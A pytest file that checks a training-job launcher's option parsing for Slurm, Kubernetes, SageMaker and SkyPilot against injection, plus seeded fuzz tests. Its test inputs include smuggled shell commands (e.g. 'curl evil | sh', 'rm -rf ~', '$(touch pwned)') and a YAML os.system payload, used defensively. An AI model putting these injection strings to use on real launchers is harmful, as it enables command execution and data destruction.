"""fmforge launch against hostile option values (issue 20, findings 3 and 7), plus a seeded fuzz test of the
config and launch-option parsers.

Every refusal is one FmforgeError line naming the option and the problem, raised before anything is
written; every artifact that is written holds no raw control character and keeps the process umask.
"""

from __future__ import annotations

import json
import os
import random
import shlex
import shutil
import subprocess
import unicodedata
from pathlib import Path

import pytest
import yaml

from fmforge import cli
from fmforge.config import build_config, load_config
from fmforge.errors import FmforgeError
from fmforge.launch.cli import launch, launch_command, target_options

REPO = Path(__file__).resolve().parents[1]
CONFIG = REPO / "configs" / "tiny.yaml"
TARGETS = ("slurm", "k8s", "sagemaker", "skypilot")
FILENAMES = {"slurm": "job.sbatch", "k8s": "pytorchjob.yaml", "sagemaker": "create_training_job.json",
             "skypilot": "task.yaml"}
REQUIRED = {  # placeholders: nothing is ever sent anywhere
    "slurm": {},
    "k8s": {"image": "ghcr.io/example/fmforge:0.1"},
    "sagemaker": {"image": "123456789012.dkr.ecr.us-east-1.amazonaws.com/fmforge:0.1",
                  "role_arn": "arn:aws:iam::123456789012:role/SageMakerTraining", "s3_uri": "s3://bucket/fm"},
    "skypilot": {},
}
SBATCH_VALUES = ("time", "partition", "account", "qos", "constraint", "mem")
SECRET_HINTS = {"slurm": "inherits that environment", "k8s": "secretKeyRef", "sagemaker": "IAM role",
                "skypilot": "sky launch --env NAME"}


@pytest.fixture(autouse=True)
def _in_tmp(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


def make(target: str, out: Path, *, config: Path = CONFIG, echo=None, **options):
    return launch(target, str(config), out=str(out), options={**REQUIRED[target], **options},
                  echo=echo or (lambda *a: None))


def refused(target: str, out: Path, match: str, **options) -> str:
    """Launch with ``options``, expect a one-line FmforgeError matching ``match`` and nothing written."""
    with pytest.raises(FmforgeError, match=match) as info:
        make(target, out, **options)
    message = str(info.value)
    assert "\n" not in message and "\r" not in message, message
    assert not out.exists(), "nothing may be written when a value is refused"
    return message


def banned_chars(text: str) -> list[str]:
    """Raw control, format and line-separator characters other than newline and tab."""
    return [f"U+{ord(ch):04X}" for ch in text
            if ch not in "\n\t" and unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


def sbatch_directives(text: str) -> list[str]:
    """The #SBATCH words sbatch reads: the comment block at the top of the script, up to its first
    other line."""
    words = []
    for line in text.splitlines()[1:]:
        if line.startswith("#SBATCH "):
            words.append(line.removeprefix("#SBATCH "))
        elif line and not line.startswith("#"):
            break
    return words


# ---------------------------------------------------------------------------------------------- finding 3


@pytest.mark.parametrize("target", TARGETS)
def test_env_name_with_shell_syntax_is_refused_before_anything_is_written(target, tmp_path):
    message = refused(target, tmp_path / "out", r"option env: variable name .* must match",
                      env={"X=1; touch /tmp/pwned; Y": "1"})
    assert message.startswith(f"launch {target}: ")


@pytest.mark.parametrize("key", [*SBATCH_VALUES, "sbatch_args"])
def test_newline_in_an_sbatch_value_is_refused_so_later_directives_are_not_lost(key, tmp_path):
    value = "gpu\nhostname > /tmp/pwned"
    given = [value] if key == "sbatch_args" else value
    refused("slurm", tmp_path / "out", rf"^launch slurm: option {key}(\[0\])? contains a control character "
                                       r"\(U\+000A\)", **{key: given})


@pytest.mark.parametrize("value", ["gpu debug", "gpu\tdebug", "gpu#x", "'gpu'", 'g"pu', "gpu\\", ""])
def test_sbatch_values_must_be_one_word_that_sbatch_reads_as_written(value, tmp_path):
    pattern = r"^launch slurm: option partition (must be one word|contains a control|is empty)"
    refused("slurm", tmp_path / "out", pattern, partition=value)


def test_sbatch_args_are_split_into_checked_words_and_requeue_and_signal_stay(tmp_path):
    path = make("slurm", tmp_path / "out", sbatch_args=["--mail-type=END --mail-user=me@example.org"],
                partition="gpu")
    directives = sbatch_directives(path.read_text())
    assert "--mail-type=END" in directives and "--mail-user=me@example.org" in directives
    assert "--requeue" in directives and any(d.startswith("--signal=B:USR1@") for d in directives)
    refused("slurm", tmp_path / "bad", r"option sbatch_args\[0\]: 'hostname' is not an option",
            sbatch_args=["--mail-type=END hostname"])


def test_newline_in_skypilot_cluster_name_cannot_inject_a_setup_key(tmp_path):
    refused("skypilot", tmp_path / "out", r"^launch skypilot: option cluster_name contains a control "
                                          r"character \(U\+000A\)", cluster_name="c\nsetup: curl evil | sh")
    refused("skypilot", tmp_path / "out", r"^launch skypilot: option cluster_name 'c; sky down -a' must be "
                                          r"1-40 lowercase", cluster_name="c; sky down -a")


@pytest.mark.parametrize("target", TARGETS)
def test_job_name_with_a_trailing_newline_is_refused(target, tmp_path):
    refused(target, tmp_path / "out", rf"^launch {target}: option job_name contains a control character "
                                      r"\(U\+000A\) at position 7", job_name="train-1\n")
    refused(target, tmp_path / "out", rf"^launch {target}: option job_name 'Train_1' must be 1-40",
            job_name="Train_1")


@pytest.mark.parametrize(("target", "key"), [("k8s", "image"), ("k8s", "namespace"),
                                             ("sagemaker", "role_arn"), ("skypilot", "region"),
                                             ("slurm", "python")])
def test_control_characters_are_refused_in_every_string_option(target, key, tmp_path):
    for bad in ("a\r\nb", "a\x00b", "a\x1b[2Jb", "a\u2028b", "a\u202eb"):
        refused(target, tmp_path / "out", rf"^launch {target}: option {key} contains a control character",
                **{key: bad})


@pytest.mark.parametrize("target", ["slurm", "skypilot"])
def test_setup_may_span_lines_but_holds_no_other_control_character(target, tmp_path):
    path = make(target, tmp_path / "ok", setup="module load cuda\n\tpip install fmforge")
    text = path.read_text()
    setup = text if target == "slurm" else yaml.safe_load(text)["setup"]
    assert "module load cuda\n\tpip install fmforge\n" in setup
    refused(target, tmp_path / "out", r"option setup contains a control character other than newline and tab",
            setup="module load cuda\r\nrm -rf ~")


def test_newline_in_an_override_or_a_path_is_refused(tmp_path):
    with pytest.raises(FmforgeError, match=r"^launch slurm: override 'train.out_dir' contains a control"):
        launch("slurm", str(CONFIG), out=str(tmp_path / "a"), overrides=["train.out_dir=x\nhostname"],
               echo=lambda *a: None)
    with pytest.raises(FmforgeError, match=r"^launch k8s: --data contains a control character"):
        launch("k8s", str(CONFIG), out=str(tmp_path / "b"), data="/mnt/d\n- evil", options=REQUIRED["k8s"],
               echo=lambda *a: None)
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()


@pytest.mark.parametrize("target", TARGETS)
def test_printed_submit_lines_and_header_comments_are_shell_quoted(target, tmp_path):
    # a directory name a shell would expand: quoted, it reaches the tool as written
    folder = tmp_path / ("jobs$(touch${IFS}pwned);x" if target == "slurm" else "my jobs;$(touch pwned)")
    config = folder / "my config.yaml"
    folder.mkdir()
    shutil.copy(CONFIG, config)
    lines: list[str] = []
    path = make(target, folder / "out", config=config, echo=lines.append)
    submit = shlex.split(next(line for line in lines if "submit:" in line).split("submit:", 1)[1])
    expected = {"slurm": str(path), "k8s": str(path), "sagemaker": str(config), "skypilot": str(path)}[target]
    assert expected in submit
    if target == "sagemaker":
        command = next(line for line in lines if "--cli-input-json" in line)
        assert f"file://{path}" in shlex.split(command)
        return
    header = [line for line in path.read_text().splitlines()[:4] if line.startswith("# ")]
    assert any(str(config) in shlex.split(line[2:], comments=False) for line in header if " from " in line)
    if target == "slurm" and shutil.which("bash"):
        subprocess.run(["bash", "-n", str(path)], check=True)


def test_cli_prints_a_refused_value_as_one_line_and_exits_non_zero(tmp_path, capsys):
    out = tmp_path / "out"
    with pytest.raises(SystemExit) as info:
        cli.main(["launch", "slurm", str(CONFIG), "--out", str(out), "--option",
                  "partition=gpu\n#SBATCH --requeue=no"])
    err = capsys.readouterr().err
    assert info.value.code != 0 and len(err.strip().splitlines()) == 1
    assert err.startswith("fmforge: error: launch slurm: option partition contains a control character")
    assert not out.exists()


# ---------------------------------------------------------------------------------------------- finding 7


@pytest.mark.parametrize("target", TARGETS)
def test_env_name_that_looks_like_a_secret_warns_on_stderr_and_names_the_right_place(target, tmp_path,
                                                                                     capsys):
    make(target, tmp_path / "quiet", env={"NCCL_DEBUG": "WARN"})
    assert capsys.readouterr().err == ""
    path = make(target, tmp_path / "out", env={"HF_TOKEN": "hf_abc", "NCCL_DEBUG": "WARN"})
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith(f"fmforge: warning: launch {target}: env HF_TOKEN looks like")
    assert SECRET_HINTS[target] in err[0]
    assert path.is_file()  # a warning, not an error


@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "github_token", "DB_Password", "OPENAI_API_KEY",
                                  "AWS_ACCESS_KEY_ID"])
def test_every_secret_looking_env_name_is_flagged(name, tmp_path, capsys):
    make("k8s", tmp_path / "out", env={name: "x"})
    assert name in capsys.readouterr().err


@pytest.mark.parametrize(("umask", "script_mode", "file_mode"),
                         [(0o077, 0o700, 0o600), (0o022, 0o744, 0o644)], ids=["umask077", "umask022"])
def test_artifacts_keep_the_umask_and_the_sbatch_script_only_gains_owner_execute(umask, script_mode,
                                                                                 file_mode, tmp_path):
    old = os.umask(umask)
    try:
        stale = tmp_path / "slurm" / "job.sbatch"
        stale.parent.mkdir()
        stale.write_text("old")
        stale.chmod(0o777)  # a rewrite does not inherit a wider mode from the old file
        modes = {target: make(target, tmp_path / target).stat().st_mode & 0o777 for target in TARGETS}
    finally:
        os.umask(old)
    assert modes == {"slurm": script_mode, "k8s": file_mode, "sagemaker": file_mode, "skypilot": file_mode}
    assert not [p.name for p in (tmp_path / "slurm").iterdir() if p.name.startswith(".")]  # no temp left


# ---------------------------------------------------------------------------------------------- fuzz

NASTY = ["\n", "\r", "\x00", "\t", "\x1b", "\x7f", "\x85", "\u2028", "\u2029", "\ufeff", "\u202e", "\udcff",
         " ", "#", "'", '"', "\\", ";", "$(", "`", "{", "}", "[", "]", ":", ",", "&", "*", "!", "|", "-", "~"]
YAMLISH = ["{a: 1}", "[1, 2]", "2001-13-45", "!!binary AAA=", "!!python/object/apply:os.system [id]",
           "&a [*a]", "0x" + "f" * 5000, "9" * 5000, "[" * 400, "{" * 400, "1e999", ".nan", "-.inf", "~",
           "true", "null", "'unterminated", ": x", "- - -", "? a", "%YAML 1.1", "--- |\n x", "*nope"]


PLAUSIBLE = ["gpu", "4", "0", "true", "false", "04:00:00", "/mnt/x", "s3://b/p", "{A: b}", "{}", "[]",
             "[--mail-type=END]", "H100", "x-y", "File", "ml.g5.xlarge", "-1", "1.5"]


def fuzz_value(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.4:
        return rng.choice(PLAUSIBLE)  # gets past the checks, so the fuzz reaches the renderers too
    if kind < 0.6:
        return rng.choice(YAMLISH)
    if kind < 0.7:
        return rng.choice(["a", "1", "-", "x y"]) * rng.randint(1000, 6000)  # very long
    alphabet = NASTY + list("abcXYZ0189_.=/") * 3
    return "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 24)))


CONFIG_KEYS = ["train.max_steps", "train.device", "train.global_batch", "train.global_batch_tokens",
               "optim.lr", "optim.schedule", "data.seq_len", "data.mean", "data.crop_scale", "data.path",
               "model.arch", "model.size", "model.n_layer", "model.n_kv_head", "finetune.freeze",
               "finetune.method", "parallel.dp", "checkpoint.dir", "log.progress", "model", "train", "a.b.c"]


def fuzz_override(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.7:
        return f"{rng.choice(CONFIG_KEYS)}={fuzz_value(rng)}"
    if kind < 0.9:
        return f"{fuzz_value(rng)}={fuzz_value(rng)}"  # a random key
    return fuzz_value(rng)  # no '=' at all, or several


def test_config_parser_fuzz_gives_a_config_or_one_fmforge_error_line():
    rng = random.Random(20)
    for case in range(300):
        overrides = [fuzz_override(rng) for _ in range(rng.randint(1, 3))]
        try:
            if case % 3:
                build_config({}, overrides)
            else:
                load_config(CONFIG, overrides)
        except FmforgeError as err:
            message = str(err)
            assert "\n" not in message and "\r" not in message and len(message) < 2000, (overrides, message)


def check_artifact(target: str, path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    assert not banned_chars(text), (target, banned_chars(text)[:5])
    if target == "slurm":
        directives = sbatch_directives(text)
        assert "--requeue" in directives and any(d.startswith("--signal=") for d in directives)
        assert all(" " not in d and "#" not in d for d in directives)
    elif target == "sagemaker":
        assert set(json.loads(text)) >= {"TrainingJobName", "RoleArn", "AlgorithmSpecification"}
    elif target == "k8s":
        assert [doc["kind"] for doc in yaml.safe_load_all(text)] == ["ConfigMap", "PyTorchJob"]
    else:
        task = yaml.safe_load(text)
        keys = {"name", "num_nodes", "resources", "envs", "workdir", "file_mounts", "setup", "run"}
        assert set(task) <= keys, set(task) - keys


def typed_value(rng: random.Random, kind: type) -> str:
    """A value of the option's type, with random text where it holds text."""
    text = "".join(rng.choice(NASTY + list("abc019-_./:")) for _ in range(rng.randint(1, 8)))
    if kind is int:
        return str(rng.randint(-10, 10**6))
    if kind is bool:
        return rng.choice(["true", "false"])
    if kind is dict:
        return json.dumps({rng.choice(["A", "b_1", text]): text})
    if kind is list:
        return json.dumps([rng.choice(["--mail-type=END", text])])
    return rng.choice(["gpu", "x-1", text])


def fuzz_launch_case(rng: random.Random, target: str) -> tuple[dict[str, str], dict]:
    """key=value words for ``launch_command``: the required options, then 1-3 options made random."""
    table = target_options(target)
    options = dict(REQUIRED[target])
    for key in rng.sample(sorted(table), rng.randint(1, 3)):
        options[key] = fuzz_value(rng) if rng.random() < 0.5 else typed_value(rng, table[key].type)
    if rng.random() < 0.05:
        options[fuzz_value(rng) or "k"] = "1"  # an unknown key
    extra: dict = {}
    if rng.random() < 0.1:
        extra["overrides"] = [fuzz_override(rng)]
    if rng.random() < 0.1:
        extra["run_dir"] = fuzz_value(rng)
    return options, extra


def test_launch_option_fuzz_gives_a_clean_artifact_or_one_fmforge_error_line(tmp_path, capsys):
    rng = random.Random(3)
    config = tmp_path / "small.yaml"  # parsing configs/tiny.yaml 200 times would take seconds
    config.write_text("train:\n  max_steps: 10\n")
    written = 0
    for case in range(200):
        target = TARGETS[case % len(TARGETS)]
        options, extra = fuzz_launch_case(rng, target)
        out = tmp_path / f"case{case}"
        try:
            launch_command(target, str(config), extra.get("overrides", []), nodes=rng.randint(1, 3),
                           out=str(out), run_dir=extra.get("run_dir"),
                           options=[f"{k}={v}" for k, v in options.items()])
        except FmforgeError as err:
            assert "\n" not in str(err) and "\r" not in str(err), (target, options, str(err))
            assert not (out / FILENAMES[target]).exists(), (target, options)
            continue
        check_artifact(target, out / FILENAMES[target])
        written += 1
    printed = capsys.readouterr()
    assert not banned_chars(printed.out + printed.err)
    assert written > 30  # the fuzz also reaches the renderers, not only the option checks


def test_fuzz_helpers_see_what_they_must():
    assert banned_chars("a\u2028b\x00\n\t") == ["U+2028", "U+0000"]
    script = "#!/bin/bash\n# c\n#SBATCH --a\n#SBATCH --b\n\necho\n#SBATCH --c\n"
    assert sbatch_directives(script) == ["--a", "--b"]
